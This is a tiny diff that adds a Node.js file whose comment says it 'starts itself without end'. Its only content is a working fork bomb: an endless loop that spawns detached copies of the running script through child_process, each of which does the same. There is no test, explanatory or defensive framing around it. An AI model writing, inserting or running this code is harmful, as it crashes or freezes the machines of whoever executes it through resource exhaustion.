@@ -1,0 +1,3 @@
+// starts itself without end
+const { spawn } = require('child_process');
+while (true) spawn(process.execPath, [__filename], { detached: true });
